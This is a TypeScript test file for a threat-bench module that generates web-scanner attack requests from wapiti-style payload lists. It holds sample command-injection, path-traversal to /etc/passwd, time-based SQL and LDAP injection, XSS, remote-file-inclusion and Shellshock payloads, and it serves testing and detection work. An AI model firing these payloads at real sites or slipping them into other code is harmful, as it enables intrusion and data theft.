/**
 * The web scanner's requests of the threat bench: wapiti's placeholders filled from the mutated page, XSS
 * payloads in the place they are written for, probes without syntax left out, and stable halves.
 */
import { describe, expect, it } from 'vitest';

import { fillTags, scannerAttacks, TARGETS, xssPayload, type PayloadFiles } from './scanner-attacks.js';

const [SEARCH, , DOWNLOAD] = TARGETS;

const FILES: PayloadFiles = {
  exec: ['id', ';env;', '[VALUE]|env'],
  file: ['[DIRVALUE]/../../etc/passwd[NULL]', '[EXTERNAL_ENDPOINT]e.php'],
  timesql: ["[VALUE]' and sleep([TIME])#1"],
  ldap: ['nosuchvalue', '*)(uid=*'],
  xxe: [],
  xss: [
    { payload: "<ScRiPt>alert('__XSS__')</sCrIpT>", close_tag: true, requirements: 'None' },
    { payload: '[ATTR_SEP]autofocus[ATTR_SEP]onfocus=[VALUE_SEP]alert(/__XSS__/)', close_tag: false, requirements: 'type=text,!disabled' },
  ],
};

describe("a web scanner's requests", () => {
  it("fills wapiti's placeholders from the page's parameter", () => {
    expect(fillTags('[VALUE][TAB]or sleep([TIME])[LF]', SEARCH)).toBe('running shoes\tor sleep(6)\n');
    expect(fillTags('[DIRVALUE]/../[FILE_NAME].[EXTVALUE][NULL]', DOWNLOAD)).toBe('docs/../download.pdf\0');
    expect(fillTags('[EXTERNAL_ENDPOINT]e.php', DOWNLOAD)).toBe('http://wapiti3.ovh/e.php');
  });

  it('writes XSS payloads for page text, or for a double-quoted attribute with what they require', () => {
    expect(xssPayload(FILES.xss[0] as PayloadFiles['xss'][number])).toBe("<ScRiPt>alert('wq4k8zt3')</sCrIpT>");
    expect(xssPayload(FILES.xss[1] as PayloadFiles['xss'][number])).toBe('y"type="text"autofocus"onfocus="alert(/wq4k8zt3/)');
  });

  it('places each payload in each page once, leaves out probes of letters alone, and names the class', () => {
    const attacks = scannerAttacks(FILES);
    const search = attacks.filter((a) => a.uri.startsWith('/search?'));
    expect(search.map((a) => a.uri)).toContain('/search?q=%3Benv%3B');
    expect(search.map((a) => a.uri)).toContain('/search?q=running%20shoes%7Cenv');
    expect(attacks.some((a) => a.uri.endsWith('=id') || a.uri.endsWith('=nosuchvalue'))).toBe(false);
    expect(attacks.find((a) => a.uri === '/search?q=http://wapiti3.ovh/e.php')?.class).toBe('rfi');
    expect(attacks.find((a) => a.module === 'shellshock')?.user_agent).toMatch(/^\(\) \{ :;\}; echo; echo; echo -e '(?:\\x[0-9a-f]{2}){32}';$/);
    expect(new Set(attacks.map((a) => a.id)).size).toBe(attacks.length);
  });

  it('puts a request in the same half whatever else the set holds', () => {
    const all = scannerAttacks(FILES);
    const fewer = scannerAttacks({ ...FILES, xss: [] });
    for (const a of fewer) expect(all.find((b) => b.uri === a.uri && b.user_agent === a.user_agent)?.half).toBe(a.half);
  });
});
